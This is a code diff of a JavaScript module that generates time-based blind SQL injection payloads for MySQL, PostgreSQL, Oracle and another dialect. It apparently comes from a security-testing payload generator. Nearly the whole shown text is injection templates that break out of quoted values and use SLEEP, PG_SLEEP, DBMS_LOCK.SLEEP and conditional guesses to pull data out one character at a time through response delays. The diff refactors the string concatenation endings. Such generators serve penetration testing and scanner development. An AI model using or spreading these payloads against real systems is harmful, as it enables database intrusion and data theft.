@@ -5,13 +5,17 @@ import { sqlGenerator } from '../sql-generator.js';
 export const timeBlind = sqlGenerator({
   name: 'time-blind',
   places: WHERE_PLACES,
-  rules: { and: ['AND', 'and', 'OR', 'or'], guess: ['{length}>{digit}', '{ascii}>{code}', '1=1', '{scan:a}={scan:a}'] },
+  rules: {
+    and: ['AND', 'and', 'OR', 'or'],
+    glue: ['||'],
+    guess: ['{length}>{digit}', '{ascii}>{code}', '1=1', '{scan:a}={scan:a}'],
+  },
   byDialect: {
     mysql: {
       start: [
         '{open} {and} {wait}{close}',
         '{open} {and} IF({guess},{wait},{digit}){close}',
-        '{base}{quote}{glue}{wait}{glue}{quote}',
+        '{base}{quote}{glue}{wait}{rejoin}',
         '{open} {and} (SELECT {scan} FROM (SELECT(SLEEP({sec}-(IF({guess},0,{sec})))))x){close}',
         '{open} {and} CASE WHEN {guess} THEN {wait} ELSE 0 END{close}',
         '{open} RLIKE {wait}{close}',
@@ -27,7 +31,7 @@ export const timeBlind = sqlGenerator({
         '{open} {and} (SELECT CASE WHEN ({guess}) THEN (SELECT {digit} FROM PG_SLEEP({sec})) ELSE {digit} END)=1{close}',
         '{open} {and} PG_SLEEP({sec}) IS NULL{close}',
         '{open} {and} EXISTS(SELECT PG_SLEEP({sec})){close}',
-        '{base}{quote}||PG_SLEEP({sec})::text||{quote}',
+        '{base}{quote}||PG_SLEEP({sec})::text{rejoin}',
         '{open} {and} pg_sleep({sec})::text={quote}{quote} {comment}',
       ],
     },
@@ -35,7 +39,7 @@ export const timeBlind = sqlGenerator({
       start: [
         '{open} {and} {scan}={sleep}{close}',
         '{open} {and} (CASE WHEN {guess} THEN {sleep} ELSE {digit} END){close}',
-        '{base}{quote}||{sleep}||{quote}',
+        '{base}{quote}||{sleep}{rejoin}',
         '{open} {and} length({sleep})>0{close}',
         '{open} {and} IIF({guess},{sleep},0) {comment}',
       ],
@@ -52,7 +56,7 @@ export const timeBlind = sqlGenerator({
     oracle: {
       start: [
         '{open} {and} {scan}={sleep}{close}',
-        '{base}{quote}||{sleep}||{quote}',
+        '{base}{quote}||{sleep}{rejoin}',
         '{open} {and} (SELECT CASE WHEN ({guess}) THEN {sleep} ELSE {digit} END FROM DUAL)={digit}{close}',
         '{open} {and} DBMS_LOCK.SLEEP({sec}) IS NULL{close}',
       ],
